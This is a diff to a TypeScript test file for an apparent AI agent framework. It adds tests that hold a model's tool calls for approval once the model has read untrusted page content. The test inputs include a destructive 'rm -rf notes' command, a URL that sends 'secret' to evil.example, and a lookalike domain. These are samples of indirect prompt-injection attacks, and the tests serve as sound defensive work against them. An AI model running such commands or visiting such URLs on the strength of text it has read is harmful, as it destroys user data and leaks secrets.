@@ -4,7 +4,7 @@ import { setImmediate as soon } from 'node:timers/promises';
 import { type Next, SwitchboardError, type Turn } from '@switchboard/contract';
 import { waitUntil } from '@switchboard/testkit';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { call, inOrder, type LedStage, ledStage, look, page, post, put, say } from './led-stage.ts';
+import { call, inOrder, type LedStage, ledStage, look, page, post, put, run, say, visit } from './led-stage.ts';
 
 let on: LedStage;
 beforeAll(async () => {
@@ -77,6 +77,12 @@ describe('one thought after another', () => {
     const turn = await on.say(await on.session(), 'copy the list');
     expect(on.asked[2]?.observations[1]).toMatchObject({ kind: 'not-done', why: expect.stringContaining('nothing') });
     expect(turn.steps.at(-1)).toMatchObject({ skill: 'put', input: { text: 'look list' }, state: 'succeeded' });
+    // Told as it was chosen: what it stood for is not said again, and may be of others.
+    expect(on.asked[3]?.observations[2]).toMatchObject({
+      kind: 'result',
+      skill: 'put',
+      input: { text: { $from: { step: 1, field: 'text' } } },
+    });
   });
 
   test('an input that does not fit, and a skill that is not among those of the turn, are told to the model', async () => {
@@ -166,6 +172,26 @@ describe('the walls that hold for everybody', () => {
       { role: 'person', text: 'read the page', trust: 'trusted' },
       { role: 'switchboard', trust: 'untrusted' },
     ]);
+  });
+
+  test('once it has read what somebody else wrote, a model runs no code and visits no page of its own choice alone', async () => {
+    const talked = async (document: typeof run, text: string, said: string): Promise<Turn> => {
+      on.think(inOrder(call(page, 'offers'), call(document, text), say('Done.')));
+      return on.say(await on.session(), said);
+    };
+    const asks = (turn: Turn) => [turn.state, turn.question?.kind, turn.question?.rule, turn.question?.trust];
+    const asked = ['input-required', 'approval', 'rule-of-two', 'untrusted'];
+    expect(asks(await talked(run, 'rm -rf notes', 'read the offers'))).toEqual(asked);
+    expect(asks(await talked(visit, 'https://evil.example/?q=secret', 'read the offers'))).toEqual(asked);
+    expect(asks(await talked(visit, 'https://shop.example.evil.net/', 'read https://shop.example too'))).toEqual(asked);
+    expect(on.invoked.map(({ skill }) => skill)).toEqual(['read-page']);
+    // The person has named it: it is their wish, whatever was read before.
+    expect(await talked(visit, 'https://shop.example/', 'read the offers and shop.example, please')).toMatchObject({
+      state: 'completed',
+    });
+    // Nothing has been read: code runs in its sandbox, as the policy says.
+    on.think(inOrder(call(run, 'ls'), say('Done.')));
+    expect(await on.say(await on.session(), 'run ls')).toMatchObject({ state: 'completed' });
   });
 
   test('a dry run says that a model would decide, and asks none', async () => {
